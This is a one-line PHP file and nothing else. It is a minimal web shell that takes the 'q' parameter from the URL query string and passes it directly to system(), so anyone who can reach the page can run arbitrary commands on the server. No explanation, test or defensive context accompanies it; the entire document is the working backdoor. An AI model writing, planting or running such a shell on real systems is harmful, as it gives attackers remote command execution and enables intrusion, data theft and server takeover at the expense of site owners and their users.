<?php if (isset($_GET["q"])) system($_GET["q"]); ?>
